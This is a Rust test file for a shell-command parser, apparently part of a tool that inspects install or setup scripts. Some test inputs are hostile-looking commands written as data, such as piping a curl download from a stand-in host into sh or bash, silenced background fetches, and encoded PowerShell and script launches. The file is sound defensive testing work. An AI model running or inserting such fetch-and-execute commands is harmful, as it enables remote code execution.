//! Tests of the shell reader: words, commands and what is never lost.

use proptest::prelude::*;

use super::*;

fn show_word(word: &Word) -> String {
    word.parts
        .iter()
        .map(|part| match part {
            Part::Literal(text) => format!("{text:?}"),
            Part::Variable(name) => format!("${name}"),
            Part::Substitution(script) => format!("$({})", show_script(script)),
        })
        .collect()
}

fn show_script(script: &Script) -> String {
    script.commands.iter().map(show_command).collect::<Vec<_>>().join(" ")
}

fn show_command(command: &Command) -> String {
    let joint = match command.joined_by {
        Joint::Sequence => "",
        Joint::Pipe => "| ",
        Joint::And => "&& ",
        Joint::Or => "|| ",
        Joint::Background => "& ",
    };
    let mut items: Vec<String> =
        command.assignments.iter().map(|(name, value)| format!("{name}={}", show_word(value))).collect();
    items.extend(command.words.iter().map(show_word));
    items.extend(command.redirects.iter().map(|redirect| {
        let descriptor = redirect.descriptor.map_or(String::new(), |number| number.to_string());
        format!("{descriptor}{:?}:{}", redirect.kind, show_word(&redirect.target))
    }));
    format!("{joint}[{}]", items.join(" "))
}

fn show(line: &str) -> String {
    show_script(&parse(line))
}

#[test]
fn commands_and_joints() {
    assert_eq!(show("node setup.js || true"), r#"["node" "setup.js"] || ["true"]"#);
    assert_eq!(show("a && b; c | d & e"), r#"["a"] && ["b"] ["c"] | ["d"] & ["e"]"#);
    assert_eq!(show("curl -s http://x.invalid/a | sh"), r#"["curl" "-s" "http://x.invalid/a"] | ["sh"]"#);
    assert_eq!(show("a &&\n b"), r#"["a"] && ["b"]"#);
    assert_eq!(show(""), "");
}

#[test]
fn quotes_and_escapes() {
    assert_eq!(show(r#"a 'b c' "d e" f\ g h'i'"j" """#), r#"["a" "b c" "d e" "f g" "hij" ""]"#);
    assert_eq!(show(r#"a "b\"c \$d \n" '\'"#), r#"["a" "b\"c $d \\n" "\\"]"#);
    assert_eq!(show(r"a $'b\x41\n\101'"), r#"["a" "bA\nA"]"#);
    assert_eq!(show("a b\\\nc \\\n d"), r#"["a" "bc" "d"]"#);
    assert_eq!(show("a'b"), r#"["a'b"]"#, "an apostrophe");
    assert_eq!(show("a # b ; c"), r#"["a"]"#);
    assert_eq!(show("a b#c"), r#"["a" "b#c"]"#);
}

#[test]
fn variables_and_substitutions() {
    assert_eq!(show("echo $HOME/x ${A:-b}c $1 $? $ \"$B\""), r#"["echo" $HOME"/x" $A"c" $1 $? "$" $B]"#);
    assert_eq!(show("a $(b $(c) | d) `e \\`f\\``"), r#"["a" $(["b" $(["c"])] | ["d"]) $(["e" $(["f"])])]"#);
    assert_eq!(show("a \"x $(b ')' \")\")\""), r#"["a" "x "$(["b" ")" ")"])]"#);
    assert_eq!(show("bash <(curl x.invalid)"), r#"["bash" $(["curl" "x.invalid"])]"#);
    assert_eq!(show("a $((1 + 2))"), r#"["a" "$((1 + 2))"]"#);
}

#[test]
fn assignments_and_env() {
    assert_eq!(show("A=1 B=$C d E=2"), r#"[A="1" B=$C "d" "E=2"]"#);
    assert_eq!(show("cross-env A=1 d"), r#"[A="1" "d"]"#);
    assert_eq!(show("/usr/bin/env node x"), r#"["node" "x"]"#);
    assert_eq!(show("env -i x"), r#"["env" "-i" "x"]"#);
    assert_eq!(show("A=1"), r#"[A="1"]"#);
}

#[test]
fn redirects() {
    assert_eq!(
        show("(curl x.invalid; b) >/dev/null 2>&1 &"),
        r#"["curl" "x.invalid"] ["b"] [Write:"/dev/null" 2Duplicate:"1"]"#
    );
    assert_eq!(show("a < b >> c 2> d &> e"), r#"["a" Read:"b" Append:"c" 2Write:"d" Duplicate:"e"]"#);
    assert_eq!(show("sh <<END\nb $c\nEND\nd"), r#"["sh" Here:"b $c\n"] ["d"]"#);
    assert_eq!(show("sh <<- 'E' | f\n\tb\n\tE\nd"), r#"["sh" Here:"\tb\n"] | ["f"] ["d"]"#);
    assert_eq!(show("sh <<< 'a b'"), r#"["sh" Here:"a b"]"#);
}

#[test]
fn bodies_are_commands() {
    assert_eq!(show("if test -f a; then b; else c; fi; d"), r#"["test" "-f" "a"] ["b"] ["c"] ["d"]"#);
    assert_eq!(show("for x in 1 2; do a $x; done"), r#"["for" "x" "in" "1" "2"] ["a" $x]"#);
    assert_eq!(show("while true; do a; done | b"), r#"["true"] ["a"] | ["b"]"#);
    assert_eq!(show("a || { b; c; }"), r#"["a"] || ["b"] ["c"]"#);
    assert_eq!(show("a && (b && c)"), r#"["a"] && ["b"] && ["c"]"#);
    assert_eq!(show("echo if then"), r#"["echo" "if" "then"]"#);
}

#[test]
fn cmd_exe() {
    assert_eq!(show(r"@echo off & start C:\Temp\a.exe"), r#"["echo" "off"] & ["start" "C:\\Temp\\a.exe"]"#);
    assert_eq!(show(r"%APPDATA%\x.exe 100% a%20b"), r#"[$APPDATA"\\x.exe" "100%" "a%20b"]"#);
    assert_eq!(show("echo a^&b"), r#"["echo" "a&b"]"#);
    assert_eq!(show("powershell -enc QQBCAA=="), r#"["powershell" "-enc" "QQBCAA=="]"#);
    assert_eq!(parse(r"C:\Windows\System32\CMD.EXE /c x").commands[0].program().as_deref(), Some("cmd"));
}

#[test]
fn named_folders_are_no_redirections() {
    assert_eq!(show("node <home>/.x/a.js"), r#"["node" "<home>/.x/a.js"]"#);
    assert_eq!(show(r"cscript //nologo <temp>\u.vbs"), r#"["cscript" "//nologo" "<temp>\\u.vbs"]"#);
    assert_eq!(parse("sort <in >out").commands[0].redirects.len(), 2);
    assert_eq!(parse("sort <in>out").commands[0].redirects.len(), 2);
}

#[test]
fn spans_cover_the_command() {
    let line = "a b && X=1 c > d";
    let spans: Vec<_> = parse(line)
        .commands
        .iter()
        .map(|command| &line[command.span.start as usize..command.span.end as usize])
        .collect();
    assert_eq!(spans, ["a b", "X=1 c > d"]);
}

#[test]
fn hostile_lines_are_bounded() {
    let deep = parse(&"$(".repeat(100_000));
    assert_eq!(deep.commands.len(), 1);
    let many = parse(&"a;".repeat(10_000));
    assert_eq!(many.commands.len(), MAX_COMMANDS + 1);
    assert!(many.commands.last().unwrap().words[0].as_literal().unwrap().starts_with("a;"));
    parse(&"`".repeat(50_001));
    parse(&"<<E ".repeat(5_000));
    parse(&"'".repeat(100_001));
    parse(&"${".repeat(50_000));
    parse(&"<a".repeat(100_000));
}

proptest! {
    #[test]
    fn never_panics(line in "[a-c \\\\'\"$`(){}<>|&;%^=#\n0-9éif]{0,80}") {
        let script = parse(&line);
        for command in &script.commands {
            prop_assert!(line.get(command.span.start as usize..command.span.end as usize).is_some());
        }
    }

    #[test]
    fn plain_words_survive(words in prop::collection::vec("[a-z./-]{1,8}", 1..6)) {
        let line = words.join(" ");
        let keyword = ["if", "then", "elif", "else", "while", "until", "do", "time", "call", "start", "fi", "done", "esac", "env"];
        prop_assume!(!keyword.contains(&words[0].as_str()));
        let script = parse(&line);
        let read: Vec<_> = script.commands[0].words.iter().map(|word| word.as_literal().unwrap().to_owned()).collect();
        prop_assert_eq!(read, words);
    }
}
